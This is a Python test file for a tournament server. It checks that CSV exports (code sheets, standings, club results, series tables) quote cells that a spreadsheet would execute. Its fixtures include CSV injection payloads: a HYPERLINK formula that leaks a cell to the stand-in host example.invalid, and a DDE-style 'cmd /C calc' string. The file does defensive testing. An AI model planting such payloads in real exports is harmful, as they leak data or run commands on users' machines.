"""Every CSV the server writes is safe to open in a spreadsheet: a name, handle, club or tournament
name beginning with = + - @ is written with a single quote before it (OWASP's advice on CSV
injection), in the code sheet, a tournament's standings, a club's results and a series' table;
numbers and other text stay as they are, and the quoting of commas and quotes stays right."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.client import Api, bearer
from tests.server.helpers import unique, wait_status

from .kit import new_organiser, tournament_as

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CLUB = '=HYPERLINK("http://example.invalid/?leak="&A1,"Club")'
TOURNAMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
SERIES = "+season"
NAMES = ["=1+2", "+SUM(A1:A9)", "-3+4", "@A1", 'Plain, "quoted" name']
HANDLES = ["-minus", "_under", "plus-x", "at-y", "plain-z"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(text: str) -> list[dict[str, str]]:
    """No cell a spreadsheet would run; the lines by column."""
    rows = cells(text)
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert risky == [], text
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def quoted(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def test_csv_cells_a_spreadsheet_would_run_are_quoted(api: Api) -> None:
    _, organiser = new_organiser(api)
    r = api.http.post("/api/clubs", json={"name": CLUB}, headers=bearer(organiser))
    assert r.status_code == 201, r.text
    club = r.json()
    # Its pupils' full names and handles public, as they are written in every export.
    r = api.http.patch(f"/api/clubs/{club['id']}", json={"public_names": True}, headers=bearer(organiser))
    assert r.status_code == 200 and r.json()["public_names"] is True, r.text
    handles = [f"{h}-{unique('')[1:]}" for h in HANDLES]
    roster = "name,handle\r\n" + "".join(
        '"{}",{}\r\n'.format(name.replace('"', '""'), handle) for name, handle in zip(NAMES, handles, strict=True)
    )
    r = api.http.post(
        f"/api/clubs/{club['id']}/roster",
        content=roster.encode(),
        headers={**bearer(organiser), "Content-Type": "text/csv", "Accept": "text/csv"},
        timeout=60,
    )
    assert r.status_code == 201, r.text
    sheet = assert_safe(r.text)
    assert [(line["name"], line["handle"]) for line in sheet] == [
        (quoted(name), quoted(handle)) for name, handle in zip(NAMES, handles, strict=True)
    ]
    assert all(line["player_id"].isdigit() and len(line["code"]) == 10 for line in sheet)

    r = api.http.post("/api/series", json={"name": SERIES, "club": club["id"]}, headers=bearer(organiser))
    assert r.status_code == 201, r.text
    series = r.json()
    tid = tournament_as(api, organiser, name=TOURNAMENT, club=club["id"], series=series["id"])["id"]
    for line, handle in zip(sheet, handles, strict=True):  # each pupil signs in with its code and joins
        session = api.http.post("/api/sessions", json={"handle": handle, "code": line["code"]})
        assert session.status_code == 201, session.text
        api.join(tid, session.json()["token"])
    assert api.http.post(f"/api/tournaments/{tid}/close", headers=bearer(organiser)).status_code == 200
    wait_status(api, tid, "finished", 15)

    standings = assert_safe(api.http.get(f"/api/tournaments/{tid}/standings.csv").text)
    assert sorted((s["player"], s["handle"], s["club"]) for s in standings) == sorted(
        (quoted(name), quoted(handle), quoted(CLUB)) for name, handle in zip(NAMES, handles, strict=True)
    )
    assert [s["rank"] for s in standings] == ["1", "2", "3", "4", "5"] and {s["score"] for s in standings} == {"0"}

    results = api.http.get(f"/api/clubs/{club['id']}/results.csv", headers=bearer(organiser))
    assert results.status_code == 200, results.text
    lines: list[dict[str, Any]] = assert_safe(results.text)
    assert {line["tournament"] for line in lines} == {quoted(TOURNAMENT)}
    assert sorted(line["player"] for line in lines) == sorted(quoted(name) for name in NAMES)

    table = assert_safe(api.http.get(f"/api/series/{series['id']}/standings.csv").text)
    assert sorted((t["player"], t["handle"]) for t in table) == sorted(
        (quoted(name), quoted(handle)) for name, handle in zip(NAMES, handles, strict=True)
    )
    # The JSON says the names as they are.
    assert {s["player"] for s in api.http.get(f"/api/series/{series['id']}/standings").json()} == set(NAMES)
